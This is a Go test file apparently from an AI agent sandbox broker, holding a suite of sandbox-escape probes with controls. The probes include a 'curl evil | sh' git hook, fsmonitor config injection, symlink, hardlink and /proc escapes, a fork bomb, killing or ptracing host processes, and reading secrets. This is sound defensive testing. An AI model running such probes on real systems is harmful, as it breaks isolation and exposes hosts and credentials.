//go:build linux

package broker

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/agentloom/loom/broker/internal/jail"
	"github.com/agentloom/loom/sandbox"
)

// The escape suite: every case is a probe that must fail inside the jail,
// paired with a control that runs the same probe with the relevant layer
// absent (unjailed, jailed under a policy widened on exactly that point,
// or jailed with the layer off) and must succeed. A case whose control fails proves nothing, so
// the control failing fails the test too.

// escapeEnv is one case's world: a workspace the jail may write, a
// sibling directory it may only read, a directory outside every root,
// and whatever the case's setup adds.
type escapeEnv struct {
	base    string // parent of ws and out, under the test's temp dir
	ws      string // writable root
	out     string // readable root, not writable
	hidden  string // outside every root: absent from the policy's root, present in the host view
	arg     string // case-specific argument passed to the probe as $ARG
	env     map[string]string
	cleanup []func()
	// brokers are the suite's brokers for this case (nil outside the
	// suite).
	brokers *escapeBrokers
	// sleeperKilled, set by hostSleeper, says whether the host process
	// it started was sent SIGKILL.
	sleeperKilled func() bool
	// unixReached, set by unixListener, says whether the probe reached
	// the case's socket.
	unixReached func() bool
	// listenerHits, set by the host listeners (tcpListener and the
	// like), takes from the kernel what reached the case's listener (a
	// connection queued, a datagram received) and says how many.
	listenerHits func() int
}

// escapeBrokers are the brokers one case of the suite runs on, all of
// its flavour and closed when the case ends: jail runs the jailed run;
// rootOff and unguarded, made on first use, run the controls that need
// the policy_root layer or the git guard off (escape_root_test.go,
// escape_git_test.go), on the same options and helper start. Each takes
// the probe its flavour's broker made: the same host, helper and start.
type escapeBrokers struct {
	t      *testing.T
	f      escapeFlavour
	probe  probeResult
	jail   *Broker
	others struct {
		sync.Mutex
		rootOff, unguarded, trusting *Broker
	}
}

func newEscapeBrokers(t *testing.T, f escapeFlavour, probe probeResult) *escapeBrokers {
	bs := &escapeBrokers{t: t, f: f, probe: probe}
	bs.jail = bs.broker(f.idle)
	return bs
}

// broker is a broker of bs's flavour with the given WarmHelperIdle.
func (bs *escapeBrokers) broker(idle time.Duration) *Broker {
	b := withProbe(bs.t, Options{WarmHelperIdle: idle, WarmHelpers: bs.f.helpers}, bs.probe)
	// Priming is the primed flavours'. Left on in the warm flavour, the
	// warm-up's command primed the pool for its own policy, so a case's
	// command (another policy) found no helper it could take and started
	// one cold (TestEscapeWarmFlavourIsServedWarm).
	b.test.noPrime = !bs.f.primed
	if bs.f.launched {
		b.test.launchAboveRSS = -1
	}
	return b
}

// rootOff is a broker like jail whose jails keep the host view: the
// policy_root layer off.
func (bs *escapeBrokers) rootOff() *Broker {
	bs.others.Lock()
	defer bs.others.Unlock()
	if bs.others.rootOff == nil {
		bs.others.rootOff = bs.broker(bs.f.idle)
		bs.others.rootOff.test.policyRootOff = true
	}
	return bs.others.rootOff
}

// unguarded is a broker like jail (never keeping a helper warm) with the
// git guard off: the controls' jail, identical but for the layer under
// test.
func (bs *escapeBrokers) unguarded() *Broker {
	bs.others.Lock()
	defer bs.others.Unlock()
	if bs.others.unguarded == nil {
		bs.others.unguarded = bs.broker(-1)
		bs.others.unguarded.git.Test.Off = true
	}
	return bs.others.unguarded
}

// trustingTargets is a broker like unguarded whose git guard is on but
// takes a git directory a command's pointer names as it stands when the
// command did not write it (trustTargets): the laundering cases'
// controls.
func (bs *escapeBrokers) trustingTargets() *Broker {
	bs.others.Lock()
	defer bs.others.Unlock()
	if bs.others.trusting == nil {
		bs.others.trusting = bs.broker(-1)
		bs.others.trusting.git.Test.TrustTargets = true
	}
	return bs.others.trusting
}

func newEscapeEnv(t *testing.T) *escapeEnv {
	base := t.TempDir()
	e := &escapeEnv{base: base, ws: filepath.Join(base, "ws"), out: filepath.Join(base, "out")}
	for _, d := range []string{e.ws, e.out} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// /var/tmp is not under the jail's private /tmp, so a directory there
	// is in the host view (the policy_root layer off, or a policy that
	// widens to it), where only Landlock keeps it unreadable.
	hidden, err := os.MkdirTemp("/var/tmp", "loom-escape-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(hidden) })
	e.hidden = hidden
	t.Cleanup(func() {
		for _, f := range e.cleanup {
			f()
		}
	})
	return e
}

func (e *escapeEnv) vars() map[string]string {
	exe, _ := os.Executable()
	m := map[string]string{
		"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
		"HOME": "/nonexistent", "WS": e.ws, "OUT": e.out, "HIDDEN": e.hidden,
		"ARG": e.arg, "PROBE": exe,
		"GORACE": os.Getenv("GORACE"), // the probe's race runtime: see raceExitSleep
	}
	for k, v := range e.env {
		m[k] = v
	}
	return m
}

// policy is the jailed policy every case starts from.
func (e *escapeEnv) policy() sandbox.Policy {
	exe, _ := os.Executable()
	return sandbox.Policy{
		ReadableRoots: append(sandbox.SystemReadableRoots(), e.out, filepath.Dir(exe)),
		WritableRoots: []string{e.ws},
		Protected:     DefaultProtected(e.ws),
		Network:       sandbox.NetworkOff,
		EnvAllow:      []string{"PATH", "HOME", "WS", "OUT", "HIDDEN", "ARG", "PROBE", probeEnv, "GORACE"},
	}
}

func (e *escapeEnv) exists(rel ...string) bool {
	_, err := os.Lstat(filepath.Join(rel...))
	return err == nil
}

func (e *escapeEnv) read(p string) string {
	b, _ := os.ReadFile(p)
	return string(b)
}

func (e *escapeEnv) write(t *testing.T, p, s string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
}

// gitRepo lays out the parts of a repository the protected set is about.
func (e *escapeEnv) gitRepo(t *testing.T, dir string) {
	t.Helper()
	e.write(t, filepath.Join(dir, ".git", "config"), "[core]\n\tbare = false\n")
	e.write(t, filepath.Join(dir, ".git", "hooks", "pre-commit.sample"), "#!/bin/sh\n")
	e.write(t, filepath.Join(dir, ".git", "objects", "info", "packs"), "")
	e.write(t, filepath.Join(dir, ".git", "HEAD"), "ref: refs/heads/main\n")
}

type escapeCase struct {
	name string
	// rootControl marks a case whose control needs uid 0 (the
	// unprivileged run of the suite leaves it out).
	rootControl bool
	setup       func(t *testing.T, e *escapeEnv)
	// script runs under sh -c with WS, OUT, HIDDEN, ARG and PROBE set.
	script string
	// policy adjusts the jailed policy before either run.
	policy func(e *escapeEnv, p *sandbox.Policy)
	// widen, when set, makes the control a jailed run under the widened
	// policy; otherwise the control runs the script unjailed.
	widen func(e *escapeEnv, p *sandbox.Policy)
	// rootOff makes the control a jailed run under the same policy with
	// the policy_root layer off (escape_root_test.go).
	rootOff bool
	timeout time.Duration
	// escaped inspects the host after the run: did the probe succeed?
	escaped func(t *testing.T, e *escapeEnv, r result) bool
	// run replaces the generic runner for cases that need their own.
	run func(t *testing.T, b *Broker, e *escapeEnv, jailed bool) bool
	// serial marks a case that measures or changes the whole test
	// process (its heap, its environment), so it runs while no other
	// case does.
	serial bool
}

func probeSucceeded(_ *testing.T, _ *escapeEnv, r result) bool {
	return strings.Contains(r.stdout, "PROBE-SUCCEEDED")
}

// hostListenerWait is how long hostListenerHit keeps asking the kernel
// while nothing has reached the case's listener: loopback delivers in the
// sender's own call, before the probe exits, unless the kernel deferred
// its network work to a thread of its own, which a loaded host may run
// late. What decides is what the kernel queued, never a goroutine's
// scheduling; the queue is asked once more after the wait.
const hostListenerWait = 200 * time.Millisecond

// hostListenerHit says whether the probe reached the case's host
// listener (see listenerHits and hostListenerWait).
func hostListenerHit(_ *testing.T, e *escapeEnv, _ result) bool {
	until := time.Now().Add(hostListenerWait)
	for {
		if e.listenerHits() > 0 {
			return true
		}
		if time.Now().After(until) {
			return e.listenerHits() > 0
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// pendingConns accepts and closes every connection queued on the
// listening socket l without waiting (its descriptor is non-blocking)
// and says how many there were.
func pendingConns(l syscall.Conn) int {
	rc, err := l.SyscallConn()
	if err != nil {
		return 0
	}
	n := 0
	rc.Control(func(fd uintptr) {
		for {
			nfd, _, err := syscall.Accept4(int(fd), syscall.SOCK_CLOEXEC)
			if err != nil {
				return
			}
			syscall.Close(nfd)
			n++
		}
	})
	return n
}

// pendingDatagrams reads every datagram queued on c without waiting and
// says how many there were.
func pendingDatagrams(c syscall.Conn) int {
	rc, err := c.SyscallConn()
	if err != nil {
		return 0
	}
	n := 0
	buf := make([]byte, 1500)
	rc.Control(func(fd uintptr) {
		for {
			if _, _, err := syscall.Recvfrom(int(fd), buf, syscall.MSG_DONTWAIT); err != nil {
				return
			}
			n++
		}
	})
	return n
}

func widenWritable(dirs ...func(e *escapeEnv) string) func(e *escapeEnv, p *sandbox.Policy) {
	return func(e *escapeEnv, p *sandbox.Policy) {
		for _, d := range dirs {
			p.WritableRoots = append(p.WritableRoots, d(e))
		}
	}
}

func outDir(e *escapeEnv) string    { return e.out }
func hiddenDir(e *escapeEnv) string { return e.hidden }

func noProtected(_ *escapeEnv, p *sandbox.Policy) { p.Protected = nil }
func networkFull(_ *escapeEnv, p *sandbox.Policy) { p.Network = sandbox.NetworkFull }

// tcpListener opens a host listener on 127.0.0.1; listenerHits takes
// the connections queued on it.
func tcpListener(t *testing.T, e *escapeEnv) {
	l, err := net.ListenTCP("tcp", &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	e.cleanup = append(e.cleanup, func() { l.Close() })
	e.arg = l.Addr().String()
	e.listenerHits = func() int { return pendingConns(l) }
}

// udpListener opens a host socket on 127.0.0.1; listenerHits takes the
// datagrams queued on it.
func udpListener(t *testing.T, e *escapeEnv) {
	c, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	e.cleanup = append(e.cleanup, func() { c.Close() })
	e.arg = c.LocalAddr().String()
	e.listenerHits = func() int { return pendingDatagrams(c) }
}

// abstractListener opens a host listener on an abstract unix socket;
// listenerHits takes the connections queued on it.
func abstractListener(t *testing.T, e *escapeEnv) {
	name := fmt.Sprintf("loom-escape-%d-%d", os.Getpid(), time.Now().UnixNano())
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: "@" + name, Net: "unix"})
	if err != nil {
		t.Fatal(err)
	}
	e.cleanup = append(e.cleanup, func() { l.Close() })
	e.arg = name
	e.listenerHits = func() int { return pendingConns(l) }
}

// hostSleeper starts a host process the probe will try to reach, and
// sets sleeperKilled.
func hostSleeper(t *testing.T, e *escapeEnv) {
	cmd := exec.Command("sleep", "600")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	e.cleanup = append(e.cleanup, func() { cmd.Process.Kill(); <-done })
	e.arg = fmt.Sprint(cmd.Process.Pid)
	e.env = map[string]string{"SLEEPER_DONE": ""}
	e.sleeperKilled = func() bool {
		select {
		case <-done:
			ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus)
			return ok && ws.Signaled() && ws.Signal() == syscall.SIGKILL
		default:
		}
		// Not reaped yet (this process reaps it, so the pid is still its
		// own): a SIGKILL sent is pending or already made it a zombie; the
		// kernel records it in the call that sends it, before the probe
		// exits, however late a loaded host runs the sleeper to its end.
		st, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", cmd.Process.Pid))
		if err != nil {
			<-done // gone from /proc: reaped, so Wait is returning
			ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus)
			return ok && ws.Signaled() && ws.Signal() == syscall.SIGKILL
		}
		return sigkillSent(string(st))
	}
}

// sigkillSent says whether a /proc/<pid>/status shows a process that was
// sent SIGKILL: a zombie or dying (state Z or X), or SIGKILL pending for
// its thread or its thread group.
func sigkillSent(status string) bool {
	const sigkillBit = 1 << (syscall.SIGKILL - 1)
	for line := range strings.SplitSeq(status, "\n") {
		k, v, _ := strings.Cut(line, ":")
		v = strings.TrimSpace(v)
		switch k {
		case "State":
			if strings.HasPrefix(v, "Z") || strings.HasPrefix(v, "X") {
				return true
			}
		case "SigPnd", "ShdPnd":
			if bits, err := strconv.ParseUint(v, 16, 64); err == nil && bits&sigkillBit != 0 {
				return true
			}
		}
	}
	return false
}

// escapeCases is the whole suite: the core cases here and the groups
// kept beside the layer each one attacks.
func escapeCases() []escapeCase {
	return slices.Concat(coreEscapeCases(), layerEscapeCases(), rootEscapeCases(), gitEscapeCases(), boundEscapeCases())
}

func coreEscapeCases() []escapeCase {
	hooks := func(e *escapeEnv) string { return filepath.Join(e.ws, ".git", "hooks") }
	return []escapeCase{
		{
			name:    "write_outside_direct",
			script:  `echo pwned > "$OUT/direct"`,
			widen:   widenWritable(outDir),
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.out, "direct") },
		},
		{
			name:    "write_outside_dotdot",
			script:  `echo pwned > "$WS/../out/dotdot"`,
			widen:   widenWritable(outDir),
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.out, "dotdot") },
		},
		{
			name: "write_outside_symlink",
			setup: func(t *testing.T, e *escapeEnv) {
				if err := os.Symlink(e.out, filepath.Join(e.ws, "link")); err != nil {
					t.Fatal(err)
				}
			},
			script:  `echo pwned > "$WS/link/viasymlink"`,
			widen:   widenWritable(outDir),
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.out, "viasymlink") },
		},
		{
			name:   "write_outside_hardlink",
			setup:  func(t *testing.T, e *escapeEnv) { e.write(t, filepath.Join(e.out, "target"), "original\n") },
			script: `ln "$OUT/target" "$WS/hl" && echo pwned > "$WS/hl"`,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
				return e.read(filepath.Join(e.out, "target")) != "original\n"
			},
		},
		{
			name:    "move_directory_out",
			setup:   func(t *testing.T, e *escapeEnv) { e.write(t, filepath.Join(e.ws, "dir", "f"), "x") },
			script:  `mv "$WS/dir" "$OUT/moved"`,
			widen:   widenWritable(outDir),
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.out, "moved", "f") },
		},
		{
			name:    "write_via_proc_self_root",
			script:  `echo pwned > "/proc/self/root$OUT/procroot"`,
			widen:   widenWritable(outDir),
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.out, "procroot") },
		},
		{
			name:    "truncate_outside",
			setup:   func(t *testing.T, e *escapeEnv) { e.write(t, filepath.Join(e.out, "target"), "original\n") },
			script:  `truncate -s 0 "$OUT/target"`,
			widen:   widenWritable(outDir),
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.read(filepath.Join(e.out, "target")) == "" },
		},
		{
			name:    "write_outside_every_root",
			script:  `echo pwned > "$HIDDEN/unlisted"`,
			widen:   widenWritable(hiddenDir),
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.hidden, "unlisted") },
		},
		{
			name:   "read_outside_readable_roots",
			setup:  func(t *testing.T, e *escapeEnv) { e.write(t, filepath.Join(e.hidden, "secret"), "s3cr3t-file\n") },
			script: `cat "$HIDDEN/secret"`,
			widen: func(e *escapeEnv, p *sandbox.Policy) {
				p.ReadableRoots = append(p.ReadableRoots, e.hidden)
			},
			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool { return strings.Contains(r.stdout, "s3cr3t-file") },
		},
		{
			name:    "write_host_tmp",
			script:  `echo pwned > "/tmp/$(basename "$WS")-$(basename "$(dirname "$WS")")-hosttmp"`,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(hostTmpMarker(e)) },
			setup: func(_ *testing.T, e *escapeEnv) {
				e.cleanup = append(e.cleanup, func() { os.Remove(hostTmpMarker(e)) })
			},
		},
		{
			name:    "git_hooks_write",
			setup:   func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
			script:  `echo 'curl evil | sh' > "$WS/.git/hooks/pre-commit"; echo ok > "$WS/.git/objects/new-object"`,
			widen:   noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
		},
		{
			name:   "git_config_write",
			setup:  func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
			script: `printf '[core]\n\tfsmonitor = evil\n' >> "$WS/.git/config"`,
			widen:  noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
				return strings.Contains(e.read(filepath.Join(e.ws, ".git", "config")), "evil")
			},
		},
		{
			name:   "git_hooks_replace_directory",
			setup:  func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
			script: `rm -rf "$WS/.git/hooks"; mkdir -p "$WS/.git/hooks"; echo evil > "$WS/.git/hooks/post-checkout"`,
			widen:  noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
				return e.exists(e.ws, ".git", "hooks", "post-checkout")
			},
		},
		{
			name:    "git_dir_moved_aside_and_recreated",
			setup:   func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
			script:  `mv "$WS/.git" "$WS/.git-old" && mkdir -p "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit"`,
			widen:   noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
		},
		{
			name:   "git_config_hardlinked",
			setup:  func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
			script: `ln "$WS/.git/config" "$WS/cfg" && echo '[core] fsmonitor = evil' >> "$WS/cfg"`,
			widen:  noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
				return strings.Contains(e.read(filepath.Join(e.ws, ".git", "config")), "evil")
			},
		},
		{
			name:    "git_hook_renamed_in",
			setup:   func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
			script:  `echo evil > "$WS/payload" && mv "$WS/payload" "$WS/.git/hooks/pre-push"`,
			widen:   noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-push") },
		},
		{
			name:   "git_hooks_chmod",
			setup:  func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws); os.Chmod(hooks(e), 0o755) },
			script: `chmod 0777 "$WS/.git/hooks"`,
			widen:  noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
				fi, _ := os.Stat(hooks(e))
				return fi.Mode().Perm() == 0o777
			},
		},
		{
			name: "git_worktree_file_common_hooks",
			setup: func(t *testing.T, e *escapeEnv) {
				main := filepath.Join(e.base, "main")
				e.gitRepo(t, main)
				wt := filepath.Join(main, ".git", "worktrees", "ws")
				e.write(t, filepath.Join(wt, "commondir"), "../..\n")
				e.write(t, filepath.Join(wt, "HEAD"), "ref: refs/heads/wt\n")
				e.write(t, filepath.Join(e.ws, ".git"), "gitdir: "+wt+"\n")
			},
			// A linked worktree's base grants the main repository's .git.
			policy: func(e *escapeEnv, p *sandbox.Policy) {
				p.WritableRoots = append(p.WritableRoots, filepath.Join(e.base, "main", ".git"))
			},
			script: `echo evil > "$WS/../main/.git/hooks/post-checkout"; echo ok > "$WS/../main/.git/worktrees/ws/index"`,
			widen:  noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
				return e.exists(e.base, "main", ".git", "hooks", "post-checkout")
			},
		},
		{
			name: "git_worktree_file_repointed",
			setup: func(t *testing.T, e *escapeEnv) {
				main := filepath.Join(e.base, "main")
				e.gitRepo(t, main)
				wt := filepath.Join(main, ".git", "worktrees", "ws")
				e.write(t, filepath.Join(wt, "commondir"), "../..\n")
				e.write(t, filepath.Join(e.ws, ".git"), "gitdir: "+wt+"\n")
			},
			script: `mkdir -p "$WS/evil/hooks" && echo "gitdir: $WS/evil" > "$WS/.git"`,
			widen:  noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
				return strings.Contains(e.read(filepath.Join(e.ws, ".git")), "evil")
			},
		},
		{
			name: "git_symlinked_hooks_dir",
			setup: func(t *testing.T, e *escapeEnv) {
				e.gitRepo(t, e.ws)
				os.RemoveAll(hooks(e))
				store := filepath.Join(e.ws, ".husky")
				os.MkdirAll(store, 0o755)
				if err := os.Symlink(store, hooks(e)); err != nil {
					t.Fatal(err)
				}
			},
			script:  `echo evil > "$WS/.git/hooks/pre-commit"`,
			widen:   noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".husky", "pre-commit") },
		},
		{
			name: "git_symlinked_hooks_dir_replaced",
			setup: func(t *testing.T, e *escapeEnv) {
				e.gitRepo(t, e.ws)
				os.RemoveAll(hooks(e))
				store := filepath.Join(e.ws, ".husky")
				os.MkdirAll(store, 0o755)
				if err := os.Symlink(store, hooks(e)); err != nil {
					t.Fatal(err)
				}
			},
			script:  `rm "$WS/.git/hooks" && mkdir "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit"`,
			widen:   noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
		},
		{
			name: "git_submodule_hooks",
			setup: func(t *testing.T, e *escapeEnv) {
				e.gitRepo(t, e.ws)
				e.write(t, filepath.Join(e.ws, ".git", "modules", "sub", "config"), "[core]\n")
				e.write(t, filepath.Join(e.ws, ".git", "modules", "sub", "HEAD"), "ref: refs/heads/main\n")
				os.MkdirAll(filepath.Join(e.ws, ".git", "modules", "sub", "hooks"), 0o755)
			},
			script: `echo evil > "$WS/.git/modules/sub/hooks/post-checkout"`,
			widen:  noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
				return e.exists(e.ws, ".git", "modules", "sub", "hooks", "post-checkout")
			},
		},
		{
			name: "git_hooks_dir_missing_created",
			setup: func(t *testing.T, e *escapeEnv) {
				e.gitRepo(t, e.ws)
				os.RemoveAll(hooks(e))
			},
			script:  `mkdir -p "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit"`,
			widen:   noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
		},
		{
			// git follows <gitdir>/commondir in any repository, so a planted
			// one redirects hooks and config to a directory the command
			// controls. DefaultProtected lists it; it does not exist, so no
			// bind can hold it: the broker moves it aside when the command
			// ends.
			name:    "git_commondir_planted",
			setup:   func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
			script:  `mkdir -p "$WS/evil/hooks" && echo "$WS/evil" > "$WS/.git/commondir"`,
			widen:   noProtected,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "commondir") },
		},
		{
			name:    "umount_protected_bind",
			setup:   func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
			script:  `umount -l "$WS/.git/hooks"; echo evil > "$WS/.git/hooks/pre-commit"`,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
		},
		{
			name:        "remount_protected_bind_rw",
			rootControl: true,
			setup:       func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
			script:      `mount -o bind "$WS/.git/hooks" "$WS/.git/hooks" && mount -o remount,bind,rw "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit"; umount "$WS/.git/hooks" 2>/dev/null; true`,
			escaped:     func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
		},
		{
			name:        "mount_tmpfs",
			rootControl: true,
			setup:       func(t *testing.T, e *escapeEnv) { os.MkdirAll(filepath.Join(e.ws, "m"), 0o755) },
			script:      `mount -t tmpfs none "$WS/m" && echo PROBE-SUCCEEDED; umount "$WS/m" 2>/dev/null; true`,
			escaped:     probeSucceeded,
		},
		{
			name:        "mknod_device",
			rootControl: true,
			script:      `mknod "$WS/kmem" c 1 2 && test -c "$WS/kmem" && echo PROBE-SUCCEEDED; rm -f "$WS/kmem"`,
			escaped:     probeSucceeded,
		},
		{
			name:        "setuid_binary_gains_nothing",
			rootControl: true,
			setup: func(t *testing.T, e *escapeEnv) {
				data, err := os.ReadFile("/usr/bin/grep")
				if err != nil {
					t.Fatal(err)
				}
				p := filepath.Join(e.ws, "sgrep")
				if err := os.WriteFile(p, data, 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.Chown(p, 0, 0); err != nil {
					t.Fatal(err)
				}
				if err := os.Chmod(p, 0o4755); err != nil {
					t.Fatal(err)
				}
			},
			// The binary was just written by this process: a child another
			// goroutine forked meanwhile may still hold its write
			// descriptor until it execs, so its exec can meet ETXTBSY
			// (exit 126); the script tries again a few times.
			script: `for i in 1 2 3 4 5 6 7 8; do "$WS/sgrep" -E '^CapEff' /proc/self/status; s=$?; [ $s -eq 126 ] || exit $s; sleep 0.25; done`,
			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool {
				return strings.Contains(r.stdout, "CapEff") && !strings.Contains(r.stdout, "0000000000000000")
			},
		},
		{
			// The helper's securebits (jail.Securebits) keep a uid 0
			// command from regaining capabilities; the control is the
			// host's test process, whose securebits are unset.
			name:    "securebits_unlocked",
			script:  layerProbeEnv + `=securebits exec "$PROBE"`,
			escaped: probeSucceeded,
		},
		{
			name:   "capability_bounding_set",
			script: `grep -E '^CapBnd' /proc/self/status`,
			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool {
				return strings.Contains(r.stdout, "CapBnd") && !strings.Contains(r.stdout, "0000000000000000")
			},
		},
		{
			name:    "tcp_connect_host_listener",
			setup:   tcpListener,
			script:  `LOOM_ESCAPE_PROBE=tcp exec "$PROBE"`,
			widen:   networkFull,
			escaped: hostListenerHit,
		},
		{
			name:    "udp_send_host_listener",
			setup:   udpListener,
			script:  `LOOM_ESCAPE_PROBE=udp exec "$PROBE"`,
			widen:   networkFull,
			escaped: hostListenerHit,
		},
		{
			name:    "dns_query_host_resolver",
			setup:   udpListener,
			script:  `LOOM_ESCAPE_PROBE=dns exec "$PROBE"`,
			widen:   networkFull,
			escaped: hostListenerHit,
		},
		{
			name:    "abstract_unix_socket_of_host",
			setup:   abstractListener,
			script:  `LOOM_ESCAPE_PROBE=abstract exec "$PROBE"`,
			escaped: hostListenerHit,
		},
		{
			name:   "env_var_not_allowlisted",
			setup:  func(_ *testing.T, e *escapeEnv) { e.env = map[string]string{"API_TOKEN": "s3cr3t-env"} },
			script: `echo "token=$API_TOKEN"`,
			widen: func(_ *escapeEnv, p *sandbox.Policy) {
				p.EnvAllow = append(p.EnvAllow, "API_TOKEN")
			},
			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool { return strings.Contains(r.stdout, "s3cr3t-env") },
		},
		{
			name:    "env_var_of_host_process",
			script:  `env`,
			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool { return strings.Contains(r.stdout, hostSecretValue) },
		},
		{
			name:    "kill_host_pid",
			setup:   hostSleeper,
			script:  `kill -9 "$ARG"`,
			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.sleeperKilled() },
		},
		{
			name:    "ptrace_host_pid",
			setup:   hostSleeper,
			script:  `LOOM_ESCAPE_PROBE=ptrace exec "$PROBE"`,
			escaped: probeSucceeded,
		},
		{
			name:    "ptrace_own_child",
			script:  `LOOM_ESCAPE_PROBE=ptrace-child exec "$PROBE"`,
			escaped: probeSucceeded,
		},
		{
			name:    "io_uring_setup",
			script:  `LOOM_ESCAPE_PROBE=io_uring exec "$PROBE"`,
			escaped: probeSucceeded,
		},
		{
			name:    "keyctl_add_key",
			script:  `LOOM_ESCAPE_PROBE=keyctl exec "$PROBE"`,
			escaped: probeSucceeded,
		},
		{
			name:        "bpf_map_create",
			rootControl: true,
			script:      `LOOM_ESCAPE_PROBE=bpf exec "$PROBE"`,
			escaped:     probeSucceeded,
		},
		{
			name:    "new_user_namespace",
			script:  `unshare -U true && echo PROBE-SUCCEEDED`,
			escaped: probeSucceeded,
		},
		{
			name: "fork_bomb_bounded",
			// Spawning 500 concurrent processes must fail under a ceiling of
			// 64 (RLIMIT_NPROC, and for uid 0, which that rlimit exempts, the
			// pid namespace's pid_max of 64+pidReserve); the widened control
			// (ceiling 1024) shows the probe itself can do it.
			script: `i=0; while [ $i -lt 500 ]; do sleep 5 & if [ $? -ne 0 ]; then exit 1; fi; i=$((i+1)); done; echo PROBE-SUCCEEDED; kill $(jobs -p) 2>/dev/null`,
			policy: func(_ *escapeEnv, p *sandbox.Policy) { p.Limits.Processes = 64 },
			widen:  func(_ *escapeEnv, p *sandbox.Policy) { p.Limits.Processes = 1024 },
			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool {
				return strings.Contains(r.stdout, "PROBE-SUCCEEDED")
			},
		},
		{name: "setsid_grandchild_survives_timeout", run: runSetsidGrandchild},
		{name: "output_flood_grows_host_memory", run: runOutputFlood, serial: true},
		{name: "closed_stdout_outlives_timeout", run: runClosedStdout},
	}
}

const (
	hostSecretName  = "LOOM_ESCAPE_HOST_SECRET"
	hostSecretValue = "s3cr3t-host-env"
)

func hostTmpMarker(e *escapeEnv) string {
	return filepath.Join("/tmp", filepath.Base(e.ws)+"-"+filepath.Base(e.base)+"-hosttmp")
}

// runEscape runs c once, jailed or as its control, in a world of its
// own, and reports whether the probe escaped, and whether the run was
// one of a primed flavour that no primed helper served (see runPrimed).
func runEscape(t *testing.T, bs *escapeBrokers, c escapeCase, jailed bool) (escaped, unprimed bool) {
	b := bs.jail
	e := newEscapeEnv(t)
	e.brokers = bs
	if c.setup != nil {
		c.setup(t, e)
	}
	if c.run != nil {
		return c.run(t, b, e, jailed), false
